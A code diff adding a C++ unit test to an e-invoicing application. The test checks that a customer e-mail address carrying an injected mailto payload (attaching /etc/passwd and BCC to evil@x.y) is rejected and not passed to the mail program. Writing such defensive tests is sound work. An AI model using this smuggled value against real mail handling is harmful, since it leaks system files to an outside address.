@@ -80,6 +80,31 @@ TEST_F(EInvoiceActionsTest, EditorSavesAndMailsTheSavedInvoiceAndKeepsItsWorking
       << "the last format chosen is remembered";
 }
 
+TEST_F(EInvoiceActionsTest, AnAddressThatCouldSteerTheMailProgramIsNotHandedOn) {
+  CustomerRecord eve = Customer(8, "Ms.", "Eve", "Intruder", {"1 Side Street"}, "10117");
+  eve.email = "mailto:a@b.c?attach=/etc/passwd&bcc=evil@x.y";
+  AppendCustomer(eve);
+  WriteBuyerDetails(GermanBuyer(8));
+  AppendInvoice(Invoice(1003, 8, QDate(2026, 3, 4), 0, 0, 25));
+  AppendItem(Item(1003, "CANDLE", 2, 12.5, "Beeswax candle"));
+  steps<TPickInv>({chooseRow<TPickInv>(3), pressCancel<TPickInv>});
+  steps<TInvoice>({[this](TInvoice* inv) {
+    ui.expectPopup("Peppol1");
+    ui.expectMessage(Ui::Kind::Information,
+                     "The e-mail address of customer 8 is not a plain address (one \"@\", no blanks, no "
+                     "\"mailto:\", \"?\", \"&\", \"%\" or line break, not beginning with \"-\"): "
+                     "mailto:a@b.c?attach=/etc/passwd&bcc=evil@x.y\r\nThe message was opened without a "
+                     "recipient; fill it in there, and correct the address in the customer's window.");
+    inv->BtnEMail->click();
+    inv->BtnCancel->click();
+  }});
+  editInvoices();
+  ASSERT_EQ(mails.size(), 1);
+  EXPECT_EQ(mails[0].to, "");
+  EXPECT_TRUE(mails[0].attachment.endsWith("/1003.xml")) << mails[0].attachment.toStdString();
+  QDir(QFileInfo(mails[0].attachment).path()).removeRecursively();
+}
+
 TEST_F(EInvoiceActionsTest, UnsavedAndRefusedInvoicesAreSaidAndNothingIsWritten) {
   // Invoice 1002, then a new invoice (whose cancelling ends the loop).
   steps<TPickInv>({chooseRow<TPickInv>(2), pressNew<TPickInv>});
